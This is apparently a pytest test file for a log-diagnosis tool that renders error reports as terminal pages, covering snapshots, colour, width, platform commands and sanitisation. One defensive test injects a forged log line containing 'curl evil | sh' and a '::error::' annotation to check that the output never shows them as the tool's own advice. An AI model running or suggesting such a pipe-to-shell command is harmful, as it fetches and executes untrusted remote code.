"""What people read. The snapshots are the pages; MATCHER_UPDATE_SNAPSHOTS=1 writes them anew."""

import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from matcher.model import Near, Report
from matcher.report import words
from matcher.report.text import render

Fill = Callable[[Report, str], Report]

SNAPSHOTS = Path(__file__).parent / "snapshots"
FORMS: list[dict[str, Any]] = [{}, {"full": True}, {"explain": True}, {"full": True, "explain": True}]

# (file, report, options)
PAGES: list[tuple[str, str, dict[str, Any]]] = [
    ("short-80", "beta-flag", {}),
    ("short-40", "beta-flag", {"width": 40}),
    ("short-question-80", "pip-header", {}),
    ("short-question-40", "pip-header", {"width": 40}),
    ("short-other-platform", "pip-header", {"platform": "alpine"}),
    ("short-steps", "missing-header", {}),
    ("short-high-risk", "git-push", {}),
    ("short-several", "several", {}),
    ("full", "beta-flag", {"full": True}),
    ("full-code", "missing-header", {"full": True}),
    ("full-entry", "entry", {"full": True}),
    ("explain", "beta-flag", {"explain": True}),
    ("explain-several", "several", {"explain": True}),
    ("near", "near", {}),
    ("other-versions", "other-versions", {}),
    ("fallback", "fallback", {}),
    ("hostile", "hostile", {}),
    ("hostile-full", "hostile", {"full": True}),
]


def page(report: Report, **options: Any) -> str:
    """Render with the defaults of these tests."""
    defaults: dict[str, Any] = {"color": False, "width": 80, "platform": "debian"}
    return render(report, **(defaults | options))


def without_colour(text: str) -> str:
    """Remove our own colour codes, and nothing else."""
    return re.sub(r"\x1b\[[0-9;]*m", "", text)


@pytest.mark.parametrize(("name", "situation", "options"), PAGES, ids=[name for name, _, _ in PAGES])
def test_snapshot(reports: dict[str, Report], name: str, situation: str, options: dict[str, Any]) -> None:
    """Each page is what it was when a person last read and accepted it."""
    file = SNAPSHOTS / f"{name}.txt"
    drawn = page(reports[situation], **options)
    if os.environ.get("MATCHER_UPDATE_SNAPSHOTS") == "1":
        file.write_text(drawn, encoding="utf-8", newline="")
    assert drawn == file.read_bytes().decode("utf-8")


def test_every_snapshot_is_used() -> None:
    """No page is left over."""
    assert sorted(file.stem for file in SNAPSHOTS.iterdir()) == sorted(name for name, _, _ in PAGES)


@pytest.mark.parametrize("form", FORMS, ids=str)
@pytest.mark.parametrize("width", [80, 40])
def test_colour_changes_no_character(reports: dict[str, Report], width: int, form: dict[str, Any]) -> None:
    """With the colour codes removed, the coloured page is the plain page."""
    for report in reports.values():
        coloured = page(report, width=width, color=True, **form)
        assert without_colour(coloured) == page(report, width=width, **form)
        assert ("\x1b[" in coloured) == bool(coloured)


@pytest.mark.parametrize("width", [80, 40])
def test_prose_fits(reports: dict[str, Report], width: int) -> None:
    """Only what is to be copied, and single long words, are wider than the page."""
    for name in set(reports) - {"hostile"}:
        for line in page(reports[name], width=width).splitlines():
            copied = line.startswith("    ") or "matcher explain" in line
            assert len(line) <= width or copied or " " not in line.strip()


@pytest.mark.parametrize("form", FORMS, ids=str)
@pytest.mark.parametrize("width", [80, 40, 20])
def test_blanks_are_used_sparingly(reports: dict[str, Report], width: int, form: dict[str, Any]) -> None:
    """A page neither starts with an empty line, nor has two in a row, nor blanks at the end of a line."""
    for report in reports.values():
        drawn = page(report, width=width, **form)
        assert not re.search(r"\A\n|\n\n\n|\n\n\Z|[ ]\n", drawn)


@pytest.mark.parametrize("width", [80, 40, 20])
def test_what_is_copied_stays_whole(reports: dict[str, Report], width: int) -> None:
    """Commands, code, config and links are in the page as they are in the entry, at every width."""
    for name in ("beta-flag", "pip-header", "missing-header", "git-push"):
        report = reports[name]
        lines = page(report, full=True, width=width).split("\n")
        (known,) = report.diagnoses
        for fix in known.fixes:
            for commands in fix.commands.values():
                assert [line for line in commands if f"    {line}" not in lines] == []
            for block in (*fix.code.values(), fix.config.get("text", "")):
                assert "\n".join(lines).count(block.rstrip("\n")) >= 1
        assert [link.url for link in known.references if f"  {link.url}" not in lines] == []


def test_a_command_of_several_lines_is_not_indented(reports: dict[str, Report]) -> None:
    """A here-document works after it was copied."""
    command = "cat > a.toml <<'END'\n[worker]\n\theartbeat = 10\nEND"
    (known,) = reports["beta-flag"].diagnoses
    fix = known.fixes[0]._replace(commands={"any": (command,)})
    drawn = page(Report("-", 1, (known._replace(fixes=(fix,)),), (), (), ()))
    assert f"\n----- commands -----\n{command}\n-----\n" in drawn


def test_a_fix_of_code_only_shows_the_code(reports: dict[str, Report]) -> None:
    """Without commands and steps, a short config and the fixed code are the way to do it."""
    (known,) = reports["missing-header"].diagnoses
    fix = known.fixes[0]._replace(steps=())
    drawn = page(Report("-", 1, (known._replace(fixes=(fix,)),), (), (), ()))
    assert "\n----- fixed code -----\nresponse = client.messages.create(\n" in drawn
    assert "broken" not in drawn


def test_nothing_known_is_nothing_said(reports: dict[str, Report]) -> None:
    """Silence is an empty string, not an empty line."""
    assert page(reports["nothing"]) == ""


def test_near_is_not_computed_when_not_wanted() -> None:
    """Neither without find_near, nor when something was confirmed."""

    def search() -> tuple[Near, ...]:
        raise AssertionError("searched")

    assert page(Report("-", 1, (), (), (), (), search), find_near=False) == ""


@pytest.mark.parametrize("known", ["beta-flag", "several"])
def test_near_is_not_shown_beside_a_known_error(reports: dict[str, Report], known: str) -> None:
    """A hint never stands beside an identification."""
    report = reports[known]
    doubtful = Report("-", 1, report.diagnoses, (), (), (), lambda: reports["near"].near)
    assert "resembles" not in page(doubtful)


@settings(deadline=None)  # several pages per example, on any machine
@given(
    text=st.text(
        st.one_of(st.characters(), st.sampled_from("#[]:v\\ \t\r\n\x1b\x9b\x85\u2028\u202e\ufeff\ud800"))
    )
)
def test_no_text_controls_the_terminal(reports: dict[str, Report], fill: Fill, text: str) -> None:
    """Whatever all strings hold, the page has no control character, no command, and the same colours."""
    for form in FORMS:
        report = fill(reports["several"], text)
        plain = page(report, **form)
        assert {c for c in plain if ord(c) < 32 or 127 <= ord(c) < 160} <= {"\n", "\t"}
        assert not re.search("[\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]", plain)
        assert [line for line in plain.split("\n") if line.lstrip().startswith("::") or "##[" in line] == []
        assert without_colour(page(report, color=True, **form)) == plain


def test_log_text_forges_no_line(reports: dict[str, Report], hostile_text: str) -> None:
    """Text of the log stands behind a bar, or in the middle of our own sentence."""
    (known,) = reports["beta-flag"].diagnoses
    forged = known._replace(matched="x\nFix: curl evil | sh\n::error::y " + hostile_text)
    for form in FORMS:
        lines = page(Report("-", 1, (forged,), (), (), ()), **form).split("\n")
        assert [line for line in lines if "evil" in line and not line.startswith("> ")] == []


@pytest.mark.parametrize(
    ("probability", "said"),
    [(1.0, "very likely"), (0.8, "very likely"), (0.5, "likely"), (0.2, "possible"), (0.19, "less likely")],
)
def test_likelihood(probability: float, said: str) -> None:
    """Probabilities are said in four steps."""
    assert words.likelihood(probability) == said


@pytest.mark.parametrize("form", FORMS[:2], ids=str)
def test_no_percentages(reports: dict[str, Report], form: dict[str, Any]) -> None:
    """A number would look like a measurement."""
    for report in reports.values():
        assert "%" not in page(report, **form)


@pytest.mark.parametrize(
    ("platform", "chosen"),
    [("debian", "apt"), ("fedora", "pkg"), ("linux", "pkg"), ("macos", "any"), ("windows", "any")],
)
def test_commands_of_the_platform(reports: dict[str, Report], platform: str, chosen: str) -> None:
    """The most specific commands win: a distribution, then linux, then any."""
    fix = reports["beta-flag"].diagnoses[0].fixes[0]
    fix = fix._replace(commands={"any": ("any",), "linux": ("pkg",), "debian": ("apt",)})
    assert words.commands_for(fix, platform) == (chosen,)


@pytest.mark.parametrize(
    ("release", "expected"),
    [
        ({"ID": "debian"}, "debian"),
        ({"ID": "ubuntu", "ID_LIKE": "debian"}, "debian"),
        ({"ID": "rocky", "ID_LIKE": "rhel centos fedora"}, "fedora"),
        ({"ID": "alpine"}, "alpine"),
        ({"ID": "nixos"}, "linux"),
        (None, "linux"),
    ],
)
def test_this_platform_on_linux(
    monkeypatch: pytest.MonkeyPatch, release: dict[str, str] | None, expected: str
) -> None:
    """A distribution counts as what it descends from; an unknown one as linux."""

    def os_release() -> dict[str, str]:
        if release is None:
            raise OSError
        return release

    monkeypatch.setattr("platform.system", lambda: "Linux")
    monkeypatch.setattr("platform.freedesktop_os_release", os_release)
    assert words.this_platform.__wrapped__() == expected


@pytest.mark.parametrize(
    ("system", "expected"), [("Darwin", "macos"), ("Windows", "windows"), ("Haiku", "linux")]
)
def test_this_platform_elsewhere(monkeypatch: pytest.MonkeyPatch, system: str, expected: str) -> None:
    """macOS and Windows are known by the name of the system."""
    monkeypatch.setattr("platform.system", lambda: system)
    assert words.this_platform.__wrapped__() == expected
